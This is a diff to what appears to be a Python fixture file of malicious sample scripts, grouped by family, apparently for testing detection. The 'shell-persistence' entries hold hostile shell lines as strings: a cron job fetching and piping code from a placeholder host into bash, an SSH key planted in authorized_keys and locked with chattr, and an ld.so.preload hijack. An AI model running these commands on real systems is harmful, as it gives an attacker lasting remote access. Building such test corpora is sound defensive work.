@@ -512,7 +512,7 @@ FAMILIES: dict[str, list[tuple[str, str]]] = {
     ],
     "shell-persistence": [
         ("a.sh", '(crontab -l; echo "*/5 * * * * curl -s http://@IP@/c | ba~sh") | crontab -\n'),
-        ("a.sh", 'echo "ssh-rsa @B64@ root" >> /root/.ssh/author~ized_keys; chattr +i /root/.ssh/author~ized_keys\n'),
+        ("a.sh", 'echo "ssh-rsa @B64@ root" >> ~~/.ssh/author~ized_keys; chattr +i ~~/.ssh/author~ized_keys\n'),
         ("a.sh", "cp lib.so /usr/lib/libx.so; echo /usr/lib/libx.so > /etc/ld.so.pre~load\n"),
         (
             "a.sh",
